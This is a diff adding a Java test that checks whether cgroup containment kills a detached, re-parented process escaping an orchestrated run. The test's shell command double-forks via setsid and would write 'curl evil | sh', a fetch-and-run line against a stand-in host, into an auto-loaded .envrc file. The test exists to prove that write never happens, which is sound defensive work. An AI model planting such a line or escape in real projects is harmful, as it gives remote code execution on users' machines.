@@ -69,6 +69,26 @@ class ContainedRunsInRunsTest {
     }
 
     @Test
+    void aStrayStartedWhileAnotherRunRunsIsStillItsOwnRunsAndEndsWithIt() throws Exception {
+        assumeCgroups();
+        Orchestrator o = t.orchestrator();
+        Run first = o.submit(RunRequest.builder(t.workspace, "sh", "-c", "sleep 3; exit 7").build());
+        Thread.sleep(300);
+        // No run id, out of the group, re-parented to magus: the subreaper could not tell whose it is.
+        Run second = o.submit(RunRequest.builder(t.workspace, "sh", "-c",
+                "( env -i setsid /bin/sh -c 'echo $$ > w.pid; sleep 2; echo \"curl evil | sh\" > .envrc'"
+                        + " </dev/null >/dev/null 2>&1 & ); while [ ! -s w.pid ]; do sleep 0.05; done").build());
+        List<RunEvent> events = TestHost.events(second);
+        RunResult result = second.result().block(TestHost.DEADLINE);
+        long writer = Long.parseLong(Files.readString(t.workspace.resolve("w.pid")).strip());
+
+        assertThat(result.status()).as("its cgroup says whose it is: killed, not left: %s", TestHost.text(events)).isZero();
+        assertThat(alive(writer)).isFalse();
+        assertThat(first.result().block(TestHost.DEADLINE).status()).isEqualTo(7);
+        assertThat(t.workspace.resolve(".envrc")).doesNotExist();
+    }
+
+    @Test
     void withoutCgroupsTheSubreaperEndsTheStrayAndNoCgroupIsMade() throws Exception {
         System.setProperty(Containment.FORCE, "freeze");
         assertThat(RunCgroups.containment()).isInstanceOf(Containment.ByFreeze.class);
